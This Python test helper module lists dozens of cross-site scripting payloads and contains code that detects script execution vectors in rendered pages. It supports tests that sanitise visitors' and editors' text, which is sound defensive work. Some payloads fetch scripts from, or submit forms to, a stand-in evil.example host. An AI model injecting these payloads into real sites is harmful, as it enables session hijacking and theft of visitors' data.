"""The project's hostile HTML payloads and the checks that find a script execution vector in
a page: shared by every test that puts visitors' or editors' text on a page (article bodies,
readers' comments on the public page and in the admin queue)."""

from __future__ import annotations

import re
from collections import Counter
from html import unescape

from pages import Node, parse

# HTML and script payloads that must never execute wherever a page shows them.
HOSTILE_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x\x0conerror=alert(1)>",  # form feed before the handler
    "<img src=x\nonerror=alert(1)>",  # newline before the handler
    '<img/src="x"/onerror="alert(1)">',  # slashes as attribute separators
    '<p onmouseover="alert(1)">di chuột vào đây</p>',
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>chi tiết</details>",
    '<a href="https://example.org/" onclick="alert(1)">bấm</a>',
    '<a href="javascript:alert(1)">bấm</a>',
    '<a href="JaVaScRiPt:alert(1)">bấm</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">bấm</a>',
    '<a href="&#x6A;avascript&colon;alert(1)">bấm</a>',
    '<a href=" java\tscript:alert(1)">bấm</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">bấm</a>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<a href="vbscript:msgbox(1)">bấm</a>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<object type="text/x-scriptlet" data="https://evil.example/x.sct"></object>',
    '<embed src="data:text/html,<script>alert(1)</script>">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    '<math><a xlink:href="javascript:alert(1)">bấm</a></math>',
    '<base href="https://evil.example/">',
    '<form action="https://evil.example/"><input name="q"><button>Gửi</button></form>',
    '<button formaction="javascript:alert(1)">nút</button>',
    '<input type="image" src="x" onerror="alert(1)" formaction="javascript:alert(1)">',
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<p style="width: expression(alert(1))">kiểu cũ của IE</p>',
    '<div style="background-image: url(javascript:alert(1))">nền</div>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<link rel="import" href="https://evil.example/x.html">',
    "<template><img src=x onerror=alert(1)></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<!--><img src=x onerror=alert(1)>-->",
    '<img srcset="javascript:alert(1) 1x, https://example.org/a.jpg 2x">',
    '<table background="javascript:alert(1)"><tr><td>ô</td></tr></table>',
    "<div><p><b><i><img src=x onerror=alert(1)",
    '<a href="https://example.org/"<img src=x onerror=alert(1)>',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<video><source onerror=alert(1)></video>",
    '<isindex type="image" src="x" onerror="alert(1)">',
    "<frameset onload=alert(1)>",
]
DANGEROUS_TAGS = {
    "script",
    "iframe",
    "frame",
    "frameset",
    "object",
    "embed",
    "applet",
    "base",
    "form",
    "input",
    "button",
    "textarea",
    "select",
    "isindex",
    "style",
    "meta",
    "link",
    "svg",
    "math",
    "template",
    "noscript",
    "xmp",
    "video",
    "audio",
    "source",
    "details",
    "body",
    "html",
    "head",
    "title",
}
URL_ATTRIBUTES = {
    "href",
    "src",
    "srcset",
    "action",
    "formaction",
    "xlink:href",
    "data",
    "poster",
    "background",
    "cite",
    "longdesc",
    "dynsrc",
    "lowsrc",
    "ping",
    "content",
}
BAD_SCHEMES = ("javascript:", "vbscript:", "data:")
RAW_HANDLER = re.compile(r"<[a-z][^>]*[\s/\"']on[a-z]+\s*=", re.IGNORECASE)


def _as_url(value: str) -> str:
    """A URL as a browser reads it: entities decoded, control characters and spaces gone."""
    return re.sub(r"[\x00-\x20]", "", unescape(value)).lower()


def execution_vectors(root: Node, *, skip_tags: set[str] = frozenset()) -> Counter:
    """Everything under `root` that could run script or act as an active document."""
    found: Counter = Counter()
    for node in root.iter():
        if node is root:
            continue
        if node.tag in DANGEROUS_TAGS - skip_tags:
            found[f"<{node.tag}>"] += 1
        for name, value in node.attrs:
            if name.startswith("on"):
                found[f"{name}= on <{node.tag}>"] += 1
            if name in {"style", "srcdoc", "formaction", "action", "xlink:href", "srcset"}:
                found[f"{name}= on <{node.tag}>"] += 1
            if name in URL_ATTRIBUTES and any(s in _as_url(value) for s in BAD_SCHEMES):
                found[f"{_as_url(value)[:20]} in {name}= on <{node.tag}>"] += 1
    return found


def page_vectors(page: str) -> Counter:
    """Script execution vectors of a whole page, and raw <script openings."""
    found = execution_vectors(parse(page), skip_tags=set())
    # Raw markup too: Python's parser reads some broken markup (`<!-->`) unlike browsers.
    found["raw <script"] = page.lower().count("<script")
    found["raw on*= in a tag"] = len(RAW_HANDLER.findall(page))
    found["raw javascript:"] = page.lower().count("javascript:")
    return found
